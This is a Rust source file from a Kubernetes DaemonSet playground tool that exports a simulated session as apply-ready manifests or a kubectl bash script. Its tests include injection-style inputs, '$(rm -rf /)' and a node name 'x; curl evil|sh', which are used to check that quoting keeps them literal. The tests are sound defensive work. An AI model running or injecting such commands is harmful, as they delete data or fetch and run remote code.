//! Leaving the playground for a real cluster: `dsplay export --manifests|--kubectl SCRIPT`
//! and the page's Export button print the same.
//!
//! - [`manifests`]: every object the scenario applied, as it is now, ready for
//!   `kubectl apply -f`: no `status`, none of the fields the apiserver sets.
//! - [`kubectl_script`]: the session as a bash script of kubectl commands. Lines the playground
//!   simulates (`sim …`) become comments saying what to do by hand, or the kubectl command
//!   that does the same (`sim node remove` is `kubectl delete node`); `sim advance` becomes
//!   `kubectl rollout status` when a rollout is under way then, else `sleep`.

use crate::script::parse_script;
use crate::words::{heredoc_delimiter, quote, split_words};
use crate::{Console, ScriptError};
use dsplay_core::Simulation;
use dsplay_core::json;
use serde_json::Value;

/// Annotations the apiserver or kubectl apply write; a manifest to apply leaves them out.
const SERVER_ANNOTATIONS: [&str; 2] =
    ["deprecated.daemonset.template.generation", "kubectl.kubernetes.io/last-applied-configuration"];

/// The applied objects as one YAML stream: namespaces, then other kinds (ConfigMaps, service
/// accounts, RBAC a DaemonSet may need), then DaemonSets. Empty when nothing was applied.
pub fn manifests(sim: &Simulation) -> String {
    let store = &sim.store();
    let namespaces = store
        .namespaces()
        .keys()
        .filter(|ns| !dsplay_core::sim::BUILT_IN_NAMESPACES.contains(&ns.as_str()))
        .map(|ns| json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ns}}));
    // The built-in PriorityClasses are the cluster's, as the built-in namespaces are.
    let generic = store
        .generic()
        .values()
        .filter(|o| !(o.kind == dsplay_core::priority::KIND && dsplay_core::priority::is_system_class(&o.meta.name)))
        .map(|o| o.to_json());
    let daemonsets = store.daemonsets().values().filter(|d| d.meta.deletion_ms.is_none()).map(|d| d.to_json());
    let docs: Vec<String> =
        namespaces.chain(generic).chain(daemonsets).map(|o| crate::yaml_out::to_kubectl_yaml(&for_apply(o))).collect();
    docs.join("---\n")
}

/// An object as one would apply it: without status and server-set metadata.
fn for_apply(mut object: Value) -> Value {
    if let Some(m) = object.as_object_mut() {
        m.remove("status");
        if let Some(meta) = m.get_mut("metadata").and_then(Value::as_object_mut) {
            for k in dsplay_core::objects::SERVER_SET_METADATA {
                meta.remove(k);
            }
            let annotations = meta.get_mut("annotations").and_then(Value::as_object_mut);
            if let Some(a) = annotations {
                for k in SERVER_ANNOTATIONS {
                    a.remove(k);
                }
                if a.is_empty() {
                    meta.remove("annotations");
                }
            }
        }
    }
    object
}

/// The session `script` as a bash script for a real cluster (`bash -n` accepts it). `console`
/// replays it alongside (give it the file reader the session had, for `-f FILE`), to tell
/// whether a rollout is under way when time passes.
pub fn kubectl_script(script: &str, mut console: Console) -> Result<String, ScriptError> {
    let commands = parse_script(script)?;
    let mut out = String::from(
        "#!/usr/bin/env bash\n\
         # A DaemonSet Playground session as commands for a real cluster (dsplay export --kubectl).\n\
         # It changes the cluster your kubectl context points at: read it before you run it.\n\
         # Lines the playground simulated are comments saying what to do by hand.\n\
         set -u\n",
    );
    for command in &commands {
        let words = split_words(&command.first_line).unwrap_or_default();
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        match words.as_slice() {
            ["kubectl", ..] => {
                out.push_str(&shell_line(&words));
                out.push('\n');
                for line in &command.heredoc_lines {
                    out.push_str(line);
                    out.push('\n');
                }
            }
            ["sim", "advance", duration] => {
                let rolling = rolling_daemonsets(console.simulation());
                if rolling.is_empty() {
                    let ms = dsplay_core::time::parse_duration_ms(duration).unwrap_or(0);
                    out.push_str(&format!("sleep {}\n", ms.div_ceil(1000)));
                }
                for (namespace, name) in rolling {
                    out.push_str(&format!("kubectl rollout status daemonset/{name} -n {namespace}\n"));
                }
            }
            ["sim", rest @ ..] => {
                let what = by_hand(rest);
                out.push_str(&format!("# {}\n", command.first_line));
                if let Some(kubectl) = what.strip_prefix("kubectl ") {
                    out.push_str(&format!("kubectl {kubectl}\n"));
                } else {
                    out.push_str(&format!("#   by hand: {what}\n"));
                }
                for line in &command.heredoc_lines {
                    out.push_str(&format!("# {line}\n"));
                }
            }
            _ => {
                out.push_str(&format!("# (not a kubectl command) {}\n", command.first_line));
                for line in &command.heredoc_lines {
                    out.push_str(&format!("# {line}\n"));
                }
            }
        }
        console.run(command);
    }
    Ok(out)
}

/// A console line as bash must read it to run the same command: every word quoted where bash
/// would expand or split it (the console expands nothing: `$(…)` there is text), and a
/// heredoc's delimiter quoted, so that bash leaves its body as it is.
fn shell_line(words: &[&str]) -> String {
    let words: Vec<String> = words.iter().map(|w| w.to_string()).collect();
    let heredoc = heredoc_delimiter(&words);
    let mut out: Vec<String> = Vec::new();
    let mut i = 0;
    while i < words.len() {
        match &heredoc {
            Some(h) if i == h.index => {
                let dash = if h.strip_tabs { "-" } else { "" };
                out.push(format!("<<{dash}'{}'", h.delimiter.replace('\'', r"'\''")));
                i += h.words;
            }
            _ => {
                out.push(quote(&words[i]));
                i += 1;
            }
        }
    }
    out.join(" ")
}

/// DaemonSets whose pods are not all up to date and available yet.
fn rolling_daemonsets(sim: &Simulation) -> Vec<(String, String)> {
    sim.store()
        .daemonsets()
        .values()
        .filter(|d| {
            let s = &d.status;
            d.meta.deletion_ms.is_none()
                && (s.observed_generation < d.meta.generation
                    || s.updated_number_scheduled < s.desired_number_scheduled
                    || s.number_available < s.desired_number_scheduled)
        })
        .map(|d| (d.meta.namespace.clone(), d.meta.name.clone()))
        .collect()
}

/// What a `sim` command (its words after `sim`) means on a real cluster: a kubectl command
/// when one does it, else what to do by hand.
fn by_hand(words: &[&str]) -> String {
    // Quoted, as they would be in a command: a name is text, whatever it holds.
    let names =
        |from: usize| words.get(from..).unwrap_or_default().iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
    match words {
        ["node", "add", ..] => format!(
            "join the node(s) {} (a node registers itself when its kubelet starts), then label and taint them as the flags say",
            names(2)
        ),
        ["node", "remove", ..] => format!("kubectl delete node {}", names(2)),
        ["node", "fail", ..] => format!("stop the kubelet on {} (sudo systemctl stop kubelet)", names(2)),
        ["node", "recover", ..] => format!("start the kubelet on {} again (sudo systemctl start kubelet)", names(2)),
        ["node", "condition", node, condition] => {
            format!("make {node} report {condition} (the kubelet or node-problem-detector sets conditions)")
        }
        ["pod", "fail", ..] => {
            format!("make the container of {} exit with an error (pod names differ on a real cluster)", names(2))
        }
        ["image", "break", image] => format!("make {image} unpullable (a tag that does not exist does it)"),
        ["image", "fix", image] => format!("make {image} pullable again"),
        ["image", "slow", image, d] => format!("{image} takes {d} to pull and start: nothing to do"),
        _ => "nothing: the playground simulates this".to_string(),
    }
}

#[allow(clippy::unwrap_used)] // A panic is how a test reports failure.
#[cfg(test)]
mod tests {
    use super::*;

    const SCRIPT: &str = "sim node add n1 n2 --label ssd=true
sim advance 1500ms
kubectl create namespace logging
kubectl apply -f - <<EOF
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: agent
  namespace: logging
spec:
  selector:
    matchLabels:
      app: agent
  template:
    metadata:
      labels:
        app: agent
    spec:
      containers:
      - name: agent
        image: busybox:1.36
EOF
sim advance 10s
kubectl set image ds/agent agent=busybox:1.37 -n logging
sim advance 2s
sim node fail n2
sim node remove n1
";

    #[test]
    fn manifests_hold_what_was_applied_without_server_fields() {
        let mut console = Console::new();
        console.run_text(SCRIPT).unwrap();
        let yaml = manifests(console.simulation());
        let docs: Vec<&str> = yaml.split("---\n").collect();
        assert_eq!(docs.len(), 2, "{yaml}");
        assert!(docs[0].contains("kind: Namespace") && docs[0].contains("name: logging"), "{yaml}");
        assert!(docs[1].contains("kind: DaemonSet") && docs[1].contains("image: busybox:1.37"), "{yaml}");
        for absent in ["status:", "uid:", "resourceVersion:", "creationTimestamp:", "generation:", "last-applied"] {
            assert!(!yaml.contains(absent), "{absent} in\n{yaml}");
        }
        // What it exports applies to a fresh cluster as it is.
        let mut fresh = Console::new();
        let out = fresh.run_text(&format!("kubectl apply -f - <<EOF\n{yaml}EOF\n")).unwrap();
        assert_eq!(out[0].1.exit_code, 0, "{}", out[0].1.text());
        assert!(manifests(Console::new().simulation()).is_empty());
    }

    #[test]
    fn the_kubectl_script_keeps_kubectl_lines_and_says_what_to_do_by_hand() {
        let script = kubectl_script(SCRIPT, Console::new()).unwrap();
        assert!(script.starts_with("#!/usr/bin/env bash\n"));
        assert!(script.contains("# sim node add n1 n2 --label ssd=true\n#   by hand: join the node(s) n1 n2"));
        // The delimiter is quoted: bash leaves the manifest as it is.
        assert!(script.contains("kubectl apply -f - <<'EOF'\napiVersion: apps/v1\n"), "{script}");
        // With no DaemonSet yet a wait is a sleep; once one is being rolled out or has pods
        // on their way, it waits for the rollout.
        assert!(script.contains("--label ssd=true\n#   by hand: join the node(s) n1 n2 --label ssd=true (a node registers itself when its kubelet starts), then label and taint them as the flags say\nsleep 2\n"), "{script}");
        assert!(
            script.contains("EOF\nkubectl rollout status daemonset/agent -n logging\nkubectl set image"),
            "{script}"
        );
        assert!(
            script.contains("-n logging\nkubectl rollout status daemonset/agent -n logging\n# sim node fail"),
            "{script}"
        );
        assert!(script.contains("#   by hand: stop the kubelet on n2"));
        assert!(script.contains("# sim node remove n1\nkubectl delete node n1\n"));
    }

    #[test]
    fn bash_reads_the_script() {
        // `bash -n` parses without running; skipped where there is no bash.
        let script = kubectl_script(
            &format!(
                "{SCRIPT}sim image break \"quo'te\"\nweird $(rm -rf /) `x`\nkubectl get pods -l 'a in (b, c)' $(x) \"it's\"\nsim node remove 'x; curl evil|sh'\n"
            ),
            Console::new(),
        )
        .unwrap();
        // A name that is shell text stays one quoted word.
        assert!(script.contains("\nkubectl delete node 'x; curl evil|sh'\n"), "{script}");
        assert!(script.contains("kubectl get pods -l 'a in (b, c)' '$(x)' 'it'\\''s'\n"), "{script}");
        let Ok(mut child) = std::process::Command::new("bash")
            .arg("-n")
            .stdin(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
        else {
            return;
        };
        use std::io::Write;
        child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}\n{script}", String::from_utf8_lossy(&out.stderr));
    }
}
